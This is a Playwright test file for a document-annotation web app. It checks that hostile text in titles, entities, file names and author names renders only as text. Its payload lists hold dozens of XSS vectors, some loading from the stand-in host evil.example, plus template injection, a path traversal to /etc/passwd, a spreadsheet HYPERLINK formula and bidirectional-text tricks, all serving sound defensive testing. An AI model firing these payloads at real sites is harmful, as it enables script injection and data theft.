"""Text that attacks the page is shown as text: in every field, every view, and every page that is made."""

import json
import re
from collections.abc import Iterator
from contextlib import contextmanager

import pytest
from playwright.sync_api import Browser, BrowserContext, ConsoleMessage, Dialog, FilePayload, Page, Request

from tests.studio.conftest import OpenPage, Studio
from tests.studio.pages import (
    JSON,
    ask,
    clear,
    go,
    import_documents,
    make_document,
    new_context,
    set_author,
    span,
)

SCRIPTS = [
    "<script>alert(1)</script>",
    '"><script>alert(1)</script>',
    "'><img src=x onerror=alert(1)>",
    "<img src=//evil.example/a.png>",
    "<img/src/onerror=alert(1)>",
    "<ScRiPt>alert(1)</sCrIpT>",
    "<script src=//evil.example/x.js></script>",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "<svg onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    "<svg><animate onbegin=alert(1) attributeName=x dur=1s>",
    '<svg><use href="data:image/svg+xml;base64,PHN2Zy8+#x"/></svg>',
    '<svg><a xlink:href="javascript:alert(1)"><text>x</text></a></svg>',
    "<body onload=alert(1)>",
    '<iframe src="javascript:alert(1)"></iframe>',
    '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
    '<a href="javascript:alert(1)">اضغط</a>',
    "<x onclick=alert(1)>اضغط</x>",
    "<object data='data:text/html,<script>alert(1)</script>'></object>",
    "<embed src=//evil.example/x>",
    "<link rel=stylesheet href=//evil.example/x.css>",
    "<style>@import '//evil.example/x.css';</style>",
    "<style>*{background:url(//evil.example/c)}</style>",
    '<p style="background:url(//evil.example/s)">',
    '<meta http-equiv=refresh content="0;url=//evil.example/">',
    "<base href=//evil.example/>",
    "<form action=//evil.example/><button autofocus>",
    "<input onfocus=alert(1) autofocus>",
    "<details open ontoggle=alert(1)>",
    "<video><source onerror=alert(1)></video>",
    "<math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>",
    '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
    "</title><script>alert(1)</script>",
    "</textarea><script>alert(1)</script>",
    "</style></script><script>alert(1)</script>",
    "<!--><script>alert(1)</script>-->",
    "<![CDATA[<script>alert(1)</script>]]>",
    "<template><script>alert(1)</script></template>",
]
OTHERS = [
    "javascript:alert(1)",
    "java&#9;script:alert(1)",
    "data:text/html,<script>alert(1)</script>",
    "//evil.example/%3Cscript%3Ealert(1)%3C/script%3E",
    "{{constructor.constructor('alert(1)')()}}",
    "${alert(1)}",
    "<%= 7*7 %> #{7*7} {% raw %}",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "&#60;img src=x onerror=alert(1)&#62;",
    "&amp;lt; &quot; &#x27; &nbsp;",
    '";alert(1);//',
    "'-alert(1)-'",
    '\\"},"x":alert(1),{"y":"\\u003cscript\\u003e',
    "]]></script><script>alert(1)</script>",
    "\uff1cscript\uff1ealert(1)\uff1c/script\uff1e",
    "__proto__",
    "constructor",
    "toString",
    "../../../../etc/passwd",
    '=HYPERLINK("//evil.example","x")',
    "{n} {name} {text}",
]
# Shown by their code points, as text that could reorder or hide what a reader sees.
INVISIBLE = [
    "\u202ealert\u202c",
    "\u2067\u2066مفتوح",
    "\u2069\u202eمقلوب",
    "a\u2028alert(1)\u2029b",
    "\x1b[31m\x08\x07x",
    "صفر\x00<script>alert(1)</script>",
]
LONG = ["ا" * 3000, "x" * 3000, "ن" + "\u064b" * 200]
PAYLOADS = [*SCRIPTS, *OTHERS, *INVISIBLE, *LONG]

_UNSAFE = re.compile(r"[\x00-\x08\x0b\x0c\x0e-\x1f\x7f-\x9f\u2028-\u202e\u2066-\u206f]")


def visible(text: str) -> str:
    """Return the text as the page shows it."""
    return _UNSAFE.sub(lambda match: f"⟨U+{ord(match[0]):04X}⟩", text)


def squeeze(text: str) -> str:
    """Return the text with its white space made equal, as a browser lays it out."""
    return " ".join(text.split())


def make_hostile(payload: str, number: int) -> JSON:
    """Return a document that has the payload in every field that takes free text."""
    document = make_document(payload, f"سرت {payload} غربا")
    text = document["text"]
    document.update(title=payload, source=payload, url=payload, metadata={payload: payload})
    place = {
        "name": payload,
        "latitude": 31.2 + number / 100,
        "longitude": 16.6,
        "precision": 1,
        "admin1": payload,
        "country": "LY",
    }
    document["entities"].append(
        {
            "id": "T3",
            "label": "ORG",
            **span(text, "مصدر عسكري"),
            "actor": {"id": payload, "name": payload, "kind": payload, "side": payload},
        }
    )
    document["events"][0].update(
        place=place, claim={"claimed_by": payload, "party": True, "status": "claimed"}
    )
    document["events"][0]["arguments"].append({"role": "Agent", **span(text, payload)})
    return document


@pytest.fixture(scope="module")
def context(browser: Browser) -> Iterator[BrowserContext]:
    """One user for all tests."""
    context = new_context(browser)
    yield context
    context.close()


@pytest.fixture
def page(open_page: OpenPage, context: BrowserContext) -> Iterator[Page]:
    """An empty studio."""
    page = open_page(context=context)
    clear(page)
    yield page
    page.close()


@pytest.fixture
def hostile(open_page: OpenPage, context: BrowserContext) -> Iterator[Page]:
    """A studio whose documents are all hostile."""
    page = open_page(context=context)
    if len(ask(page, "/api/documents")["documents"]) != len(PAYLOADS):  # a test of names was here, or none
        clear(page)
        import_documents(page, [make_hostile(payload, number) for number, payload in enumerate(PAYLOADS)])
        page.evaluate("async () => (await import('/static/library_actions.js')).loadDocuments()")
    yield page
    page.close()


@pytest.fixture
def address(studio: Studio) -> str:
    """Where the studio is."""
    return studio.url


class Watch:
    """What a hostile text may not bring about."""

    def __init__(self, page: Page, address: str) -> None:
        self.page, self.address = page, address
        self.seen: list[str] = []
        page.on("dialog", self._see_dialog)
        page.on("pageerror", lambda error: self.seen.append(f"error {error}"))
        page.on("request", self._see_request)
        page.on("console", self._see_message)

    def _see_dialog(self, dialog: Dialog) -> None:
        self.seen.append(f"dialog {dialog.message}")
        dialog.dismiss()

    def _see_request(self, request: Request) -> None:
        if not request.url.startswith((self.address, "data:", "blob:", "about:")):
            self.seen.append(f"request {request.url}")

    def _see_message(self, message: ConsoleMessage) -> None:
        if "Content Security Policy" in message.text or "Refused to" in message.text:
            self.seen.append(f"console {message.text}")


@contextmanager
def watched(page: Page, address: str) -> Iterator[Watch]:
    """Fail where anything happened while the page was used."""
    watch = Watch(page, address)
    yield watch
    assert not watch.seen


def test_there_are_enough_shapes() -> None:
    """The corpus has each shape once."""
    assert len(set(PAYLOADS)) == len(PAYLOADS) >= 60


class TestHostileDocuments:
    """Documents that attack in every field."""

    def test_the_list_shows_them_as_text(self, hostile: Page, address: str) -> None:
        """Every title stands in the list letter for letter, with what is invisible made visible."""
        with watched(hostile, address):
            go(hostile, "#/")
            hostile.evaluate(
                "async () => (await import('/static/library_actions.js')).setLibrary({ n_shown: 500 })"
            )
            hostile.wait_for_function(
                "(n) => document.querySelectorAll('.article-title').length === n", arg=len(PAYLOADS)
            )
            titles = hostile.locator(".article-title").all_text_contents()
            assert {squeeze(title) for title in titles} == {squeeze(visible(payload)) for payload in PAYLOADS}
            assert hostile.evaluate("document.documentElement.scrollWidth <= innerWidth")

    def test_the_editor_shows_them_as_text(self, hostile: Page, address: str) -> None:
        """The text of each opens with its marks; nothing in it runs or is drawn."""
        with watched(hostile, address):
            for item in ask(hostile, "/api/documents")["documents"]:
                go(hostile, f"#/documents/{item['number']}")
                hostile.wait_for_function(
                    "async (n) => (await import('/static/state.js')).state.open?.number === n",
                    arg=item["number"],
                )
                hostile.locator("main .text").wait_for()
                assert "مصدر عسكري" in (hostile.locator("main .text").text_content() or "")
                assert (
                    hostile.locator("main").locator("script, img, iframe, object, embed, svg a, base").count()
                    == 0
                )

    @pytest.mark.parametrize("view", ["#/agreement", "#/retraining", "#/help"])
    def test_other_views_take_no_harm(self, hostile: Page, address: str, view: str) -> None:
        """A hostile reading's name and hostile differences are text."""
        with watched(hostile, address):
            go(hostile, view)
            hostile.locator("main h1").wait_for()
            hostile.evaluate(
                "() => new Promise((done) => requestAnimationFrame(() => requestAnimationFrame(done)))"
            )
            assert hostile.locator("main").locator("script, img, object, embed, base").count() == 0

    @pytest.mark.parametrize("picture", ["map", "timeline", "claims"])
    def test_pictures_show_them_as_text(self, hostile: Page, address: str, picture: str) -> None:
        """A page made of hostile documents loads nothing, runs nothing, and says the payloads."""
        with watched(hostile, address):
            hostile.goto(f"{address}/api/pictures/{picture}?layer=shared")
            assert hostile.locator("script, img, iframe, object, embed, base, form, link").count() == 0
            text = squeeze(hostile.locator("body").text_content() or "")
            assert "<script>alert(1)</script>" in text
            assert not [mark for mark in "\u202e\u2067\x00\x1b" if mark in text]

    def test_the_page_of_a_document_shows_it_as_text(self, hostile: Page, address: str) -> None:
        """So does the page to print."""
        numbers = [item["number"] for item in ask(hostile, "/api/documents")["documents"]]
        with watched(hostile, address):
            for number, payload in list(zip(numbers, PAYLOADS, strict=True))[::4]:
                hostile.goto(f"{address}/api/documents/{number}/page?layer=shared")
                assert hostile.locator("script, img, iframe, object, embed, base, form").count() == 0
                assert squeeze(visible(payload))[:200] in squeeze(
                    hostile.locator("body").text_content() or ""
                )


class TestHostileNames:
    """Names of files, authors, readings and labels, and what the server says of them."""

    def test_names_of_files_and_reasons_are_text(self, page: Page, address: str) -> None:
        """A file that is refused is listed under its name; labels that nobody knows are told as text."""
        document = make_document("a", "سرت", label=SCRIPTS[0], type=SCRIPTS[2])
        line = (json.dumps(document, ensure_ascii=False) + "\n").encode()
        names = [f"{name.replace('/', '∕')[:80]}.jsonl" for name in SCRIPTS[:20]]
        files: list[FilePayload] = [
            {"name": name, "mimeType": "application/json", "buffer": line} for name in names
        ]
        files.append({"name": '"><img src=x>.pdf', "mimeType": "application/pdf", "buffer": b"%PDF"})
        with watched(page, address):
            page.locator("input[type=file][multiple]").set_input_files(files)
            page.locator("button", has_text="إخفاء هذه القائمة").wait_for()
            assert page.locator(".refused").first.inner_text().count("><img src=x>.pdf") == 1
            assert page.locator("main").locator("script, img, svg, iframe").count() == 0

    def test_authors_are_text(self, page: Page, address: str) -> None:
        """Whoever calls himself a script is shown as one in the header, the list and the history."""
        name = "<img src=x onerror=alert(1)>"
        with watched(page, address):
            set_author(page, name)
            import_documents(page, [make_document("a", "سرت")])
            number = ask(page, "/api/documents")["documents"][0]["number"]
            ask(page, f"/api/documents/{number}/layers", {"start": "empty"})
            go(page, f"#/documents/{number}")
            page.locator("main h1").wait_for()
            page.evaluate("async () => (await import('/static/state.js')).openDialog('history')")
            page.locator("dialog[open]").wait_for()
            go(page, "#/agreement")
            page.get_by_role("table").first.wait_for()
            assert page.locator("option", has_text=name).count() == 2
            assert page.locator("#app img").count() == 0

    def test_a_report_runs_nothing(self, page: Page, address: str) -> None:
        """Even a report that held a script would not run it: its frame allows none."""
        status: JSON = {
            "state": "accepted",
            "stage": None,
            "step": None,
            "n_steps": None,
            "seconds": 1,
            "run": "1",
        }
        status |= {"lines": PAYLOADS[:40], "has_report": True, "verdict": SCRIPTS[0]}
        page.route("**/api/retraining", lambda route: route.fulfill(json=status))
        report = "<p>F1</p><script>alert(1)</script><img src=x onerror=alert(1)>"
        page.route(
            "**/api/retraining/report", lambda route: route.fulfill(body=report, content_type="text/html")
        )
        watch = Watch(page, address)
        go(page, "#/retraining")
        page.frame_locator("iframe").locator("p").wait_for()
        assert SCRIPTS[0] in page.locator(".notice.good").inner_text()
        assert not [seen for seen in watch.seen if seen.startswith("dialog")]
        assert page.locator("main").locator("script, img, svg").count() == 0
